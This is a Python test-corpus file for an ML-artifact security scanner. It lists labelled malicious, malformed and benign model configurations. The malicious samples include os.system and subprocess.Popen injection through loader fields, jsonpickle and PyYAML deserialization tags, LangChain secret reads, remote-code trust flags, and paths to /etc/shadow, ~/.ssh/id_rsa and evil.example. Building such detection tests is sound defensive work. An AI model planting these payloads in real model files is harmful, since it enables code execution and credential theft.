"""Configurations that make a loader fetch, import or run something; and ordinary ones."""

from __future__ import annotations

import json
from collections.abc import Callable

from aiverify.core.facts import State
from tests.corpus.sample import Label, Sample

OWN = "AIV-CONFIG-OWN-CODE"
REMOTE = "AIV-CONFIG-REMOTE-CODE"
IMPORT = "AIV-CONFIG-IMPORT"
PATH = "AIV-CONFIG-PATH"
OBJECT = "AIV-CONFIG-OBJECT"
YAML = "AIV-CONFIG-YAML"
BROKEN = "AIV-FORMAT-MALFORMED"

LLAMA = {
    "architectures": ["LlamaForCausalLM"],
    "model_type": "llama",
    "hidden_size": 64,
    "vocab_size": 128,
    "torch_dtype": "bfloat16",
}
LORA = {"peft_type": "LORA", "r": 8, "lora_alpha": 16, "target_modules": ["q_proj"]}


def reduced(call: str) -> object:
    """What jsonpickle writes of an object that is built by a call."""
    return {"py/reduce": [{"py/function": call}, {"py/tuple": ["touch /nonexistent/pwned"]}]}


DOCUMENTS: tuple[tuple[str, str, str, str, object], ...] = (
    (
        "auto-map-elsewhere",
        "code of another repository, fetched anew at every load",
        "config.json",
        REMOTE,
        {**LLAMA, "auto_map": {"AutoModel": "someone/else--modeling.Model"}},
    ),
    (
        "auto-map-tokenizer",
        "the same for a tokenizer, in a list with null",
        "tokenizer_config.json",
        REMOTE,
        {"auto_map": {"AutoTokenizer": ["someone/else--tokenization.Tokenizer", None]}},
    ),
    (
        "auto-map-processor",
        "the same for a processor",
        "preprocessor_config.json",
        REMOTE,
        {"auto_map": {"AutoImageProcessor": "someone/else--processing.Processor"}},
    ),
    (
        "auto-map-nested",
        "the same in a part of a multimodal model",
        "config.json",
        REMOTE,
        {**LLAMA, "text_config": {"auto_map": {"AutoModel": "a/b--c.D"}}},
    ),
    (
        "auto-map-traversal",
        "code outside the model's folder",
        "config.json",
        REMOTE,
        {**LLAMA, "auto_map": {"AutoModel": "../../other/modeling.Model"}},
    ),
    (
        "trust-in-config",
        "a model that trusts itself (CVE-2026-5241)",
        "config.json",
        REMOTE,
        {**LLAMA, "keypoint_detector_config": {"trust_remote_code": True}},
    ),
    (
        "trust-in-tokenizer",
        "a tokenizer that does",
        "tokenizer_config.json",
        REMOTE,
        {"trust_remote_code": True},
    ),
    (
        "trust-in-generation",
        "generation defaults that do",
        "generation_config.json",
        REMOTE,
        {"assistant": {"trust_remote_code": True}},
    ),
    (
        "trust-in-adapter",
        "an adapter that does, for its base's tokenizer",
        "adapter_config.json",
        REMOTE,
        {**LORA, "tokenizer_kwargs": {"trust_remote_code": True}},
    ),
    (
        "trust-in-sentence-transformers",
        "a sentence-transformers module that does",
        "sentence_bert_config.json",
        REMOTE,
        {"max_seq_length": 8, "model_args": {"trust_remote_code": True}},
    ),
    (
        "trust-as-text",
        "the same as a text, which is true to some",
        "config.json",
        REMOTE,
        {**LLAMA, "trust_remote_code": "True"},
    ),
    (
        "kernel-internal",
        "an attention kernel of another repository (CVE-2026-4372)",
        "config.json",
        REMOTE,
        {**LLAMA, "_attn_implementation_internal": "someone/kernel"},
    ),
    (
        "kernel",
        "the same by the public name",
        "config.json",
        REMOTE,
        {**LLAMA, "attn_implementation": "someone/kernel@main"},
    ),
    (
        "kernel-flash",
        "the same behind a prefix, for one part",
        "config.json",
        REMOTE,
        {**LLAMA, "attn_implementation": {"vision_config": "flash|someone/kernel"}},
    ),
    (
        "experts-kernel",
        "the same for a mixture of experts",
        "config.json",
        REMOTE,
        {**LLAMA, "_experts_implementation_internal": "someone/kernel"},
    ),
    (
        "custom-pipeline",
        "a pipeline of another repository",
        "config.json",
        REMOTE,
        {**LLAMA, "custom_pipelines": {"x": {"impl": "a/b--pipe.Pipe", "pt": ["AutoModel"]}}},
    ),
    (
        "custom-generate",
        "a way to generate of another repository",
        "generation_config.json",
        REMOTE,
        {"custom_generate": "a/b--generate.generate"},
    ),
    (
        "peft-parent-library",
        "a module that the loader of an adapter imports",
        "adapter_config.json",
        IMPORT,
        {**LORA, "auto_mapping": {"base_model_class": "system", "parent_library": "os"}},
    ),
    (
        "peft-parent-library-lookalike",
        "a module whose name begins like a known one",
        "adapter_config.json",
        IMPORT,
        {**LORA, "auto_mapping": {"base_model_class": "X", "parent_library": "transformers_x"}},
    ),
    (
        "peft-megatron",
        "the other module that it imports",
        "adapter_config.json",
        IMPORT,
        {**LORA, "megatron_core": "payload.core", "megatron_config": {"a": 1}},
    ),
    (
        "peft-corda-file",
        "a cache outside the artifact, which is unpickled",
        "adapter_config.json",
        PATH,
        {**LORA, "corda_config": {"cache_file": "../../cache.pt"}},
    ),
    (
        "modules-os",
        "a module of Python itself as a part of a sentence-transformers model",
        "modules.json",
        IMPORT,
        [{"idx": 0, "name": "0", "path": "", "type": "os.system"}],
    ),
    (
        "modules-unknown",
        "a class of a package that nobody knows",
        "modules.json",
        IMPORT,
        [{"idx": 0, "name": "0", "path": "", "type": "package.module.Class"}],
    ),
    (
        "modules-lookalike",
        "a package whose name begins like the right one",
        "modules.json",
        IMPORT,
        [{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers_x.models.Transformer"}],
    ),
    (
        "modules-elsewhere",
        "a class of another repository",
        "modules.json",
        REMOTE,
        [{"idx": 0, "name": "0", "path": "", "type": "a/b--custom_st.Transformer"}],
    ),
    (
        "modules-path",
        "a folder outside the model",
        "modules.json",
        PATH,
        [{"idx": 0, "name": "0", "path": "../x", "type": "sentence_transformers.models.Pooling"}],
    ),
    (
        "diffusers-library",
        "a module of Python itself as a part of a pipeline",
        "model_index.json",
        IMPORT,
        {"_class_name": "StableDiffusionPipeline", "unet": ["subprocess", "Popen"]},
    ),
    (
        "diffusers-elsewhere",
        "a pipeline of another repository",
        "model_index.json",
        REMOTE,
        {"_class_name": ["someone/else--pipeline", "Pipeline"]},
    ),
    (
        "vocabulary-traversal",
        "a vocabulary outside the artifact",
        "tokenizer_config.json",
        PATH,
        {"vocab_file": "../../../etc/passwd"},
    ),
    (
        "vocabulary-system",
        "a vocabulary that is a file of the system's",
        "tokenizer_config.json",
        PATH,
        {"vocab_file": "/etc/shadow"},
    ),
    (
        "vocabulary-address",
        "a vocabulary from an address",
        "tokenizer_config.json",
        PATH,
        {"tokenizer_file": "https://evil.example/tokenizer.json"},
    ),
    (
        "vocabulary-share",
        "a vocabulary on a share, which gives away a password's hash",
        "tokenizer_config.json",
        PATH,
        {"spm_file": "\\\\evil.example\\share\\spm.model"},
    ),
    (
        "vocabulary-home",
        "a vocabulary in a home",
        "preprocessor_config.json",
        PATH,
        {"emoji_file": "~/.ssh/id_rsa"},
    ),
    ("jsonpickle-reduce", "a call of jsonpickle's", "state.json", OBJECT, reduced("os.system")),
    (
        "jsonpickle-object",
        "an object of jsonpickle's, deep in a list",
        "metadata.json",
        OBJECT,
        {"a": [[{"py/object": "subprocess.Popen", "args": ["id"]}]]},
    ),
    (
        "jsonpickle-repr",
        "a text that jsonpickle evaluates",
        "state.json",
        OBJECT,
        {"x": {"py/repr": "os/os.system('id')"}},
    ),
    (
        "reduce-member",
        "a method of pickles as a member",
        "state.json",
        OBJECT,
        {"x": {"__reduce__": ["os.system", ["id"]]}},
    ),
    (
        "langchain-constructor",
        "an object of LangChain's of any package (CVE-2025-68664)",
        "chain.json",
        OBJECT,
        {"lc": 1, "type": "constructor", "id": ["payload", "Class"], "kwargs": {}},
    ),
    (
        "langchain-secret",
        "a variable of the environment that is read into an answer",
        "chain.json",
        OBJECT,
        {"kwargs": {"lc": 1, "type": "secret", "id": ["AWS_SECRET_ACCESS_KEY"]}},
    ),
    (
        "hydra-json",
        "a target of Hydra's in Python itself",
        "config.json",
        IMPORT,
        {**LLAMA, "encoder": {"_target_": "os.system", "command": "id"}},
    ),
    (
        "hydra-loader",
        "a target in a known library that unpickles",
        "params.json",
        IMPORT,
        {"_target_": "torch.load", "f": "weights.bin"},
    ),
    (
        "lightning-class-path",
        "a class path of Lightning's in Python itself",
        "hparams.json",
        IMPORT,
        {"callback": {"class_path": "subprocess.Popen", "init_args": {"args": "id"}}},
    ),
)
"""Name, technique, file, rule and value."""

LAMBDA = {"class_name": "Lambda", "config": {"function": ["YQ==", None, None]}}

DOCUMENTS += (
    (
        "keras-architecture",
        "a Keras model's architecture with bytecode in a layer, as from to_json",
        "model.json",
        "AIV-KERAS-LAMBDA",
        {"class_name": "Sequential", "config": {"name": "s", "layers": [LAMBDA]}},
    ),
    (
        "keras-folder",
        "the same as the configuration of a model in a folder",
        "config.json",
        "AIV-KERAS-LAMBDA",
        {"class_name": "Sequential", "config": {"name": "s", "layers": [LAMBDA]}},
    ),
    (
        "keras-in-tensorflow-js",
        "the same where TensorFlow.js keeps it",
        "model.json",
        "AIV-KERAS-LAMBDA",
        {"modelTopology": {"model_config": {"class_name": "Sequential", "config": [LAMBDA]}}},
    ),
    (
        "dense-activation",
        "a function that sentence-transformers imports as an activation",
        "2_Dense/config.json",
        IMPORT,
        {"in_features": 3, "out_features": 3, "activation_function": "os.system"},
    ),
    (
        "dense-activation-beside",
        "the same in a module that may lie beside it",
        "2_Dense/config.json",
        IMPORT,
        {"in_features": 3, "out_features": 3, "activation_function": "layers.Activation"},
    ),
    (
        "cross-encoder-activation",
        "the same of a cross-encoder",
        "config.json",
        IMPORT,
        {**LLAMA, "sentence_transformers": {"activation_fn": "os.system"}},
    ),
    (
        "target-with-parameters",
        "an object as latent diffusion describes it",
        "config.json",
        IMPORT,
        {"target": "os.system", "params": {"command": "touch /nonexistent/pwned"}},
    ),
    (
        "modules-importer",
        "a function of sentence-transformers' own that imports by name",
        "modules.json",
        IMPORT,
        [{"idx": 0, "path": "", "type": "sentence_transformers.util.import_from_string"}],
    ),
    (
        "modular-pipeline",
        "a part of a modular pipeline that is a part of Python",
        "modular_model_index.json",
        IMPORT,
        {"_class_name": "Pipeline", "unet": ["os", "system", {"repo": "someone/else"}]},
    ),
    ("trust-by-number", "trust as a number", "config.json", REMOTE, {"trust_remote_code": 1}),
)

TEXTS: tuple[tuple[str, str, str, str, str], ...] = (
    (
        "yaml-apply",
        "a call by a tag of PyYAML's (CVE-2017-18342)",
        "config.yaml",
        YAML,
        "a: !!python/object/apply:os.system ['touch /nonexistent/pwned']\n",
    ),
    (
        "yaml-new",
        "an object by a tag (CVE-2020-14343)",
        "config.yml",
        YAML,
        "!!python/object/new:tuple\n- !!python/object/new:map\n  - !!python/name:eval\n",
    ),
    (
        "yaml-long-tag",
        "the same tag in its long form",
        "hparams.yaml",
        YAML,
        "x: !<tag:yaml.org,2002:python/object/apply:subprocess.Popen> [[id]]\n",
    ),
    (
        "yaml-handle",
        "the same behind a handle that the document declares",
        "hparams.yaml",
        YAML,
        "%TAG ! tag:yaml.org,2002:python/\n---\nx: !object/apply:os.system [id]\n",
    ),
    (
        "yaml-ruby",
        "an object of another language",
        "x.yaml",
        YAML,
        "--- !ruby/object:Gem::Installer\ni: x\n",
    ),
    (
        "nemo-target",
        "a target of Hydra's in NeMo's configuration (CVE-2025-23304)",
        "model_config.yaml",
        IMPORT,
        "encoder:\n  _target_: os.system\n  command: touch /nonexistent/pwned\n",
    ),
    (
        "hydra-anchor",
        "a target behind an anchor",
        "config.yaml",
        IMPORT,
        "a: &t builtins.eval\nb:\n  _target_: *t\n",
    ),
    (
        "nemo-trust",
        "remote code that is trusted in NeMo's configuration",
        "model_config.yaml",
        REMOTE,
        "train_ds:\n  hf_data_cfg:\n    path: someone/data\n    trust_remote_code: yes\n",
    ),
    (
        "json-not-strict",
        "an object of jsonpickle's in a document that is not strict",
        "state.json",
        BROKEN,
        '{"a": NaN, "b": {"py/object": "os.system"}}',
    ),
)

TEXTS += (
    (
        "mlflow-loader",
        "a module that MLflow imports to load a model",
        "MLmodel",
        IMPORT,
        "flavors:\n  python_function:\n    loader_module: os\n",
    ),
    (
        "hyperpyyaml",
        "a tag by which HyperPyYAML calls a function",
        "hyperparams.yaml",
        YAML,
        "m: !apply:os.system\n  - touch /nonexistent/pwned\n",
    ),
)

MALFORMED: tuple[tuple[str, str, str, str], ...] = (
    ("twice", "a member that is there twice", "config.json", '{"auto_map": {}, "auto_map": {}}'),
    ("not-an-object", "a list", "tokenizer_config.json", "[]"),
    ("not-a-list", "an object where a list belongs", "modules.json", "{}"),
    ("no-type", "a module without a type", "modules.json", '[{"path": ""}]'),
    ("cut-off", "a document that does not end", "adapter_config.json", '{"r": 8'),
    ("deep", "lists within lists", "generation_config.json", "[" * 5000),
    ("yaml-deep", "the same in YAML", "config.yaml", "[" * 5000),
    ("yaml-tab", "YAML that is none", "config.yaml", "a:\n\t- b: [\n"),
)

BENIGN: tuple[tuple[str, str, State, object], ...] = (
    ("llama", "config.json", State.CLEAN, LLAMA),
    (
        "quantized",
        "config.json",
        State.CLEAN,
        {
            **LLAMA,
            "quantization_config": {"quant_method": "gptq", "modules_to_not_convert": ["lm_head"]},
            "attn_implementation": "flash_attention_2",
            "_attn_implementation_autoset": True,
        },
    ),
    (
        "own-code",
        "config.json",
        State.FLAGGED,
        {**LLAMA, "auto_map": {"AutoConfig": "configuration_x.XConfig", "AutoModel": "x.X"}},
    ),
    (
        "own-pipeline",
        "config.json",
        State.FLAGGED,
        {**LLAMA, "custom_pipelines": {"x": {"impl": "pipe.Pipe", "pt": ["AutoModel"]}}},
    ),
    (
        "curated-kernel",
        "config.json",
        State.FLAGGED,
        {**LLAMA, "attn_implementation": "kernels-community/vllm-flash-attn3"},
    ),
    ("generation", "generation_config.json", State.CLEAN, {"do_sample": True, "top_p": 0.9}),
    (
        "tokenizer",
        "tokenizer_config.json",
        State.CLEAN,
        {"tokenizer_class": "LlamaTokenizer", "model_max_length": 10**30, "sp_model_kwargs": {}},
    ),
    (
        "left-over-path",
        "tokenizer_config.json",
        State.FLAGGED,
        {"special_tokens_map_file": "/content/cache/special_tokens_map.json"},
    ),
    (
        "image-processor",
        "preprocessor_config.json",
        State.CLEAN,
        {"image_processor_type": "CLIPImageProcessor", "size": {"height": 224}},
    ),
    ("lora", "adapter_config.json", State.CLEAN, {**LORA, "megatron_core": "megatron.core"}),
    (
        "lora-auto-mapping",
        "adapter_config.json",
        State.CLEAN,
        {
            **LORA,
            "auto_mapping": {
                "base_model_class": "LlamaForCausalLM",
                "parent_library": "transformers.models.llama.modeling_llama",
            },
        },
    ),
    (
        "lora-of-own-code",
        "adapter_config.json",
        State.FLAGGED,
        {**LORA, "auto_mapping": {"parent_library": "transformers_modules.phi.modeling_phi"}},
    ),
    (
        "sentence-transformers",
        "modules.json",
        State.CLEAN,
        [
            {"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"},
            {
                "idx": 1,
                "name": "1",
                "path": "1_Pooling",
                "type": "sentence_transformers.models.Pooling",
            },
        ],
    ),
    (
        "sentence-transformers-own",
        "modules.json",
        State.FLAGGED,
        [{"idx": 0, "name": "transformer", "path": "", "type": "custom_st.Transformer"}],
    ),
    (
        "sentence-transformers-settings",
        "config_sentence_transformers.json",
        State.CLEAN,
        {"__version__": {"transformers": "4.6.1"}, "prompts": {}, "similarity_fn_name": "cosine"},
    ),
    (
        "diffusers",
        "model_index.json",
        State.CLEAN,
        {
            "_class_name": "StableDiffusionPipeline",
            "_diffusers_version": "0.30.0",
            "safety_checker": [None, None],
            "requires_safety_checker": True,
            "unet": ["diffusers", "UNet2DConditionModel"],
            "tokenizer": ["transformers", "CLIPTokenizer"],
        },
    ),
    (
        "hydra",
        "params.json",
        State.CLEAN,
        {"encoder": {"_target_": "nemo.collections.asr.modules.ConformerEncoder"}},
    ),
    (
        "hydra-own",
        "params.json",
        State.FLAGGED,
        {"net": {"_target_": "src.models.components.Net"}},
    ),
    ("words", "added_tokens.json", State.CLEAN, {"trust_remote_code": 5, "_target_": 6}),
)

BENIGN += (
    (
        "dense",
        "2_Dense/config.json",
        State.CLEAN,
        {"in_features": 3, "activation_function": "torch.nn.modules.activation.Tanh"},
    ),
    (
        "keras-architecture",
        "model.json",
        State.CLEAN,
        {"class_name": "Sequential", "config": {"name": "s", "layers": []}, "backend": "jax"},
    ),
)

BENIGN_TEXTS: tuple[tuple[str, str, State, str], ...] = (
    (
        "nemo",
        "model_config.yaml",
        State.CLEAN,
        "encoder:\n  _target_: nemo.collections.asr.modules.ConformerEncoder\n  n: 1\n",
    ),
    ("recipe", "recipe.yaml", State.CLEAN, "a: &x [1, 2]\nb: *x\nc: {trust_remote_code: false}\n"),
    ("own-tag", "mkdocs.yml", State.FLAGGED, "a: !ENV [HOME, x]\n"),
    ("log", "trainer_state.json", State.FLAGGED, '{"loss": NaN}'),
)


def _json(value: object) -> Callable[[], bytes]:
    return json.dumps(value).encode


SAMPLES: tuple[Sample, ...] = (
    *(
        Sample(f"config/{name}", Label.MALICIOUS, technique, file, _json(value), rule)
        for name, technique, file, rule, value in DOCUMENTS
    ),
    *(
        Sample(f"config/{name}", Label.MALICIOUS, technique, file, text.encode, rule)
        for name, technique, file, rule, text in TEXTS
    ),
    *(
        Sample(f"config/{name}", Label.MALFORMED, technique, file, text.encode, BROKEN)
        for name, technique, file, text in MALFORMED
    ),
    *(
        Sample(f"config/benign-{name}", Label.BENIGN, "ordinary", file, _json(value), "", state)
        for name, file, state, value in BENIGN
    ),
    *(
        Sample(f"config/benign-{name}", Label.BENIGN, "ordinary", file, text.encode, "", state)
        for name, file, state, text in BENIGN_TEXTS
    ),
)
